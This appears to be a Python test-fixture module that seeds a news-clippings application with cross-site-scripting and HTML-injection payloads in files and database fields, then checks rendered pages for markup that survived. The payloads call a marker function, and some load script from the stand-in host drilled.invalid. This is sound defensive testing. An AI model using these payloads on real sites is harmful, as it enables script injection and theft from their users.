"""Clippings that try to run something in a reader's browser, and rows with the same in every field that is shown.

Every element in them has the attribute ``data-drilled``, every script calls ``drilled()``, and every address on
another machine is on ``drilled.invalid``: so a page tells at once what became of them.
"""

from __future__ import annotations

import base64
import html
import json
import re
from typing import TYPE_CHECKING, Any

from lxml import html as pages

from articles import ingest
from articles.ingest import files
from articles.models import Alias, Article, Clipping, Person, SavedLink, Source, Story
from tests import factories

if TYPE_CHECKING:
    from pathlib import Path

    from bench.drills.addresses import Rows

HOST = "drilled.invalid"
PAYLOADS = (
    "<script data-drilled>drilled()</script>",
    f"<script data-drilled src='http://{HOST}/a.js'></script>",
    "<img data-drilled src=x onerror=drilled()>",
    f"<img data-drilled src=http://{HOST}/a.png>",
    "<svg data-drilled onload=drilled()><animate onbegin=drilled() attributeName=x dur=1s></svg>",
    "<svg><a data-drilled xlink:href='javascript:drilled()'><text y=20>word</text></a></svg>",
    '"><body data-drilled onload=drilled()>',
    "' onmouseover=drilled() data-drilled=' x",
    '" onfocus=drilled() autofocus data-drilled=" x',
    "<a data-drilled href='javascript:drilled()'>word</a>",
    "<a data-drilled href='java\tscript:drilled()'>word</a>",
    f"<iframe data-drilled srcdoc='<script>parent.drilled()</script>' src=http://{HOST}/></iframe>",
    f"<meta data-drilled http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base data-drilled href='http://{HOST}/'>",
    f"<link data-drilled rel=stylesheet href='http://{HOST}/a.css'>",
    f"<style data-drilled>*{{background:url(http://{HOST}/a)}}</style>",
    "<div data-drilled style='position:fixed;inset:0;background:red'>word</div>",
    f"<form data-drilled action=http://{HOST}/><input name=a><button>Save</button></form>",
    "<div data-drilled hx-get='/history/' hx-trigger='load' hx-target='body'>word</div>",
    "<div data-drilled hx-on:load='drilled()' hx-on::after-settle='drilled()'>word</div>",
    "<button data-drilled data-hx-post='/add/discard/' data-hx-trigger='load'>word</button>",
    "<template data-drilled><script>drilled()</script></template>",
    "</textarea><script data-drilled>drilled()</script>",
    "</title><script data-drilled>drilled()</script>",
    "--><script data-drilled>drilled()</script><!--",
    "]]><script data-drilled>drilled()</script>",
    "{{ 7|add:7777 }} {% now 'U' %} ${7*7} #{7*7} <%= 7*7 %>",
    "<math data-drilled><mtext><table><mglyph><style><img src=x onerror=drilled()></style></table></math>",
    "\u202ethgir ot tfel\u202c \u2066isolated\u2069 \u200f word",
    "＜script data-drilled＞drilled()＜/script＞",
    "&lt;script data-drilled&gt;drilled()&lt;/script&gt;",
    "<scr<script data-drilled>ipt>drilled()</scr</script>ipt>",
    "<details data-drilled open ontoggle=drilled()>word</details>",
    "<video data-drilled><source onerror=drilled()></video>",
    "<object data-drilled data='data:text/html,<script>parent.drilled()</script>'></object>",
)
ADDRESSES = (
    "javascript:drilled()",
    "JaVaScRiPt:drilled()",
    "data:text/html,<script>drilled()</script>",
    "vbscript:drilled()",
    f'http://{HOST}/" onmouseover=drilled() data-drilled="',
    f"https://{HOST}/'><script data-drilled>drilled()</script>",
    f"//{HOST}/a",
)


def text_with(payload: str, place: str) -> str:
    """Return a dump with ``payload`` in its headline, byline, dateline, text, quotes and removed lines."""
    return f"""{payload} closes the lock at {place}

By Thessa {payload}

12 March 2024

{place.upper()} — The reeve of {place} closed the lock {payload} on Tuesday, after the canal had been full of barges.

“The gates will {payload} stay shut all summer,” said Osk Wren, the {payload} lock keeper of {place}.

Mirel Tavish {payload} said that the barges had waited as far as the mill. “We {payload} knew,” Tavish added.

Read more: {payload}

Photograph: {payload}/Ledger
"""


def page_with(payload: str, place: str, address: str) -> str:
    """Return a saved page with ``payload`` as text, not as markup, wherever a page says something of itself."""
    shown, quoted = html.escape(payload), html.escape(address)
    about = {
        "@type": "NewsArticle",
        "headline": f"{payload} at {place}",
        "author": {"@type": "Person", "name": f"Thessa {payload}"},
        "publisher": {"name": f"Ledger {payload}"},
        "keywords": [payload, "harbour"],
        "url": address,
    }
    data = json.dumps(about).replace("</", "<\\/")
    return f"""<html><head><title>{shown} at {place}</title>
<link rel="canonical" href="{quoted}"><meta property="og:url" content="{quoted}">
<meta property="og:site_name" content="Ledger {shown}"><meta name="author" content="Thessa {shown}">
<meta name="keywords" content="{shown}"><script type="application/ld+json">{data}</script></head>
<body>{payload}<h1>{shown} at {place}</h1><p class="byline">By Thessa {shown}</p>
<p>The reeve of {place} closed the lock {shown} on Tuesday, after the canal had been full of barges for a week.</p>
<p>“The gates will {shown} stay shut,” said Osk Wren, the <a href="{quoted}">{shown}</a> keeper of {place}.</p>
{payload}<p>Mirel Tavish said that the barges {shown} had waited as far as the mill, and then went home.</p>
<figure><img src="a.png" onerror="drilled()"><figcaption>{shown}</figcaption></figure></body></html>"""


def mail_with(payload: str, place: str) -> str:
    def word(text: str) -> str:
        return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="

    return (
        f"From: {word(payload)} <desk@ledger.example>\r\nSubject: {word(f'{payload} at {place}')}\r\n"
        "Date: Tue, 12 Mar 2024 07:30:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{base64.encodebytes(text_with(payload, place).encode()).decode()}"
    )


def table_with(payload: str, place: str, address: str) -> str:
    text = " ".join(text_with(payload, place).split())
    row = {"title": f"{payload} at {place}", "text": text, "author": payload, "publisher": f"Ledger {payload}"}
    return json.dumps([row | {"url": address, "tags": [payload[:60], "harbour"], "date": "2024-03-12"}])


def citation_with(payload: str, place: str, address: str) -> str:
    fields = {"TI": f"{payload} at {place}", "AU": payload, "T2": payload, "UR": address, "KW": payload[:60]}
    lines = "".join(f"{name}  - {value}\n" for name, value in fields.items())
    return f"TY  - NEWS\n{lines}AB  - {' '.join(text_with(payload, place).split())}\nN1  - {payload}\nER  - \n"


def bookmarks_with(payloads: tuple[str, ...], addresses: tuple[str, ...]) -> str:
    items = "".join(
        f'<DT><A HREF="{html.escape(address)}" ADD_DATE="1710230000" TAGS="{html.escape(payload[:40])}">'
        f"{html.escape(payload)}</A>\n"
        for payload in payloads
        for address in addresses
    )
    return f"<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<TITLE>Bookmarks</TITLE>\n<DL><p>\n{items}</DL>"


def write_clippings(folder: Path, payloads: tuple[str, ...] = PAYLOADS) -> int:
    """Write clippings of every kind with each payload, also in their file names, and return how many."""
    folder.mkdir(exist_ok=True)
    for number, payload in enumerate(payloads):
        place, address = f"Elm{number}", ADDRESSES[number % len(ADDRESSES)]
        name = re.sub(r"[/\x00]", "∕", payload)[:60]
        links = f"[word]({address}) ![word]({address})"
        texts = {
            f"{number} {name}.txt": text_with(payload, place),
            f"{number} {name}.html": page_with(payload, f"Ash{number}", address),
            f"{number}.eml": mail_with(payload, f"Oak{number}"),
            f"{number}.json": table_with(payload, f"Yew{number}", address),
            f"{number}.ris": citation_with(payload, f"Bay{number}", address),
            f"{number}.md": f"# {payload}\n\n{links}\n\n{text_with(payload, f'Fir{number}')}",
        }
        for file, text in texts.items():
            (folder / file).write_text(text, encoding="utf-8")
    (folder / "bookmarks.html").write_text(bookmarks_with(payloads[:4], ADDRESSES), encoding="utf-8")
    return len(list(folder.iterdir()))


def make_hostile(rows: Rows, folder: Path, payloads: tuple[str, ...] = PAYLOADS) -> int:
    """Store the clippings, put the payloads into every other field that a page shows, and return the number of files.

    One clipping a kind stays unsaved, the curator's.
    """
    count = write_clippings(folder, payloads)
    found = files.read(files.find([folder]))
    list(ingest.store(found, origin=Clipping.Origin.COMMAND, user=rows.people.curator, jobs=1))
    made, together = rows.by_model, " ".join(payloads)
    rows.people.other.first_name = payloads[0][:100]
    rows.people.other.save()
    for number, payload in enumerate(payloads):
        tag = factories.make_tag(name=payload[:50] + str(number), slug=f"drilled-{number}")
        factories.make_tagging(article=made["article"], tag=tag, user=rows.people.owner)
        source = factories.make_source(name=payload[:100] + str(number))
        factories.make_source_line(source=source, text=payload[:400])
        factories.make_line_rule(text=f"{payload[:400]} {number}", name=payload[:60], source=source)
        factories.make_annotation(article=made["article"], note=payload)
        factories.make_annotation(article=made["article"], passage=payload)
        factories.make_change(summary=payload, made_by=rows.people.curator)
        # There are fewer addresses than payloads, and a link is known by its address.
        factories.make_saved_link(title=payload[:400], url=ADDRESSES[number % len(ADDRESSES)], key=f"drilled-{number}")
        factories.make_person(name=payload[:150] + str(number))
        factories.make_quote(article=made["article"], text=payload, speaker=made["person"])
    factories.make_passage_note(comparison=made["savedcomparison"], text=together)
    Story.objects.update(title=together)
    made["savedcomparison"].title = together[:200]
    made["savedcomparison"].save()
    Alias.objects.filter(person=made["person"]).update(name=together[:150])
    Article.objects.filter(pk=made["article"].pk).update(headline=together, standfirst=together, authors=[*payloads])
    Clipping.objects.filter(pk=made["clipping"].pk).update(name=together[:200], url=ADDRESSES[0])
    Clipping.objects.filter(pk=rows.pending.pk).update(received_by=rows.people.curator, name=together[:200])
    return count


def more_addresses() -> list[str]:
    """Return the addresses of the pages of all articles, people, sources and links."""
    found = [row.get_absolute_url() for row in Article.objects.order_by("-pk")]
    found += [row.get_absolute_url() for model in (Person, Source, Story) for row in model.objects.order_by("-pk")]
    found += [row.get_absolute_url() for row in Clipping.objects.stored().without_content().order_by("-pk")]
    return [*found, "/?q=drilled", f"/?q={HOST}", "/quotes/?q=drilled", "/people/?q=drilled", *_pages(SavedLink)]


def _pages(model: Any) -> list[str]:
    return [f"/links/?page={number}" for number in range(1, model.objects.count() // 20 + 2)]


SCHEMES = re.compile(r"^[\s\x00-\x20]*(javascript|data|vbscript)\s*:", re.IGNORECASE)


def markup_in(page: bytes) -> list[str]:
    """Return what in a page is markup of a clipping, or would run: read as a browser would."""
    found = []
    for element in pages.fromstring(page).iter():
        if not isinstance(element.tag, str):
            continue
        names = [str(name).lower() for name in element.attrib]
        wrong = [name for name in names if name == "data-drilled" or name.startswith("on") or name == "style"]
        wrong += [name for name in names if SCHEMES.match(str(element.get(name))) and name in _ADDRESSED]
        inline = element.tag == "script" and not element.get("src")
        if wrong or inline or HOST in str(element.get("src")) or element.tag in ("base", "style", "iframe", "object"):
            found.append(f"<{element.tag} {' '.join(wrong)}> in line {element.sourceline}")
    if b"7784" in page:
        found.append("a template in a clipping was evaluated")
    return found


_ADDRESSED = ("href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post")
